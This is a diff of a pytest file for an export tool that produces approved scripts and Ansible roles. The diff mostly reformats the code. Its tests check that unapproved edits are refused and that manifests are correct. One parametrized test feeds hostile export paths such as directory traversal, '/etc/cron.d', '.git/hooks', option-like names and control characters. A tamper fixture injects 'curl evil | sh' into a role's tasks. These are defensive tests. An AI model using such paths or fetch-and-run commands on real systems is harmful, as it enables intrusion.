@@ -44,7 +44,7 @@ def test_refused_after_an_edit_following_approval(
 ) -> None:
     revision = store.add_revision(approved, "echo edited\n", actor="mallory")
     store.add_evidence(revision, make_evidence(), actor="mallory")
-    with pytest.raises(SignOffMissing, match="revision 2 is not approved.*earlier revision"):
+    with pytest.raises(SignOffMissing, match=r"revision 2 is not approved.*earlier revision"):
         _export(store, approved, tmp_path / "out")
 
 
@@ -59,8 +59,9 @@ def test_writes_exact_bytes_modes_and_a_manifest(
     assert manifest_path.stat().st_mode & 0o777 == 0o644
     manifest = json.loads(manifest_path.read_text())
     assert manifest["revision"]["sha256"] == sha256_text(SCRIPT)
-    assert manifest["files"] == [{"path": "motd.sh", "sha256": sha256_text(SCRIPT),
-                                  "mode": "0755", "role": "script"}]  # fmt: skip
+    assert manifest["files"] == [
+        {"path": "motd.sh", "sha256": sha256_text(SCRIPT), "mode": "0755", "role": "script"}
+    ]
     assert [a["by"] for a in manifest["approvals"]] == ["bob"]
     assert manifest["change"]["request"] == "Set the motd\npassword=***REDACTED***"
     assert manifest["evidence"]["dryrun"] == "passed"
@@ -96,10 +97,17 @@ def test_hostile_export_names_are_refused(
 
 @pytest.mark.parametrize(
     ("path", "why"),
-    [("../../etc", "'..'"), ("/etc/cron.d", "absolute"), ("a/\x1b[2J", "control"),
-     ("ok/\u202eevil", "control"), (".git/hooks", ".git"), ("a\\b", "backslash"),
-     ("x/--force", "'-'"), ("new\nline", "control")],
-)  # fmt: skip
+    [
+        ("../../etc", "'..'"),
+        ("/etc/cron.d", "absolute"),
+        ("a/\x1b[2J", "control"),
+        ("ok/\u202eevil", "control"),
+        (".git/hooks", ".git"),
+        ("a\\b", "backslash"),
+        ("x/--force", "'-'"),
+        ("new\nline", "control"),
+    ],
+)
 def test_hostile_export_paths_are_refused(
     store: Store, approved: int, tmp_path: Path, path: str, why: str
 ) -> None:
@@ -143,9 +151,13 @@ def test_role_layout_derives_from_the_approved_playbook(
     _export(store, approved_playbook, out, as_role=True)
     role = out / "site"
     assert sorted(str(p.relative_to(role)) for p in role.rglob("*") if p.is_file()) == [
-        "handlers/main.yml", "meta/main.yml", "meta/opsgen-approved.yml", "site.opsgen.json",
-        "tasks/main.yml", "vars/main.yml",
-    ]  # fmt: skip
+        "handlers/main.yml",
+        "meta/main.yml",
+        "meta/opsgen-approved.yml",
+        "site.opsgen.json",
+        "tasks/main.yml",
+        "vars/main.yml",
+    ]
     assert "ansible.builtin.copy" in (role / "tasks/main.yml").read_text()
     assert verify_artifact(role).ok
     (role / "tasks/main.yml").write_text("- ansible.builtin.shell: curl evil | sh\n")
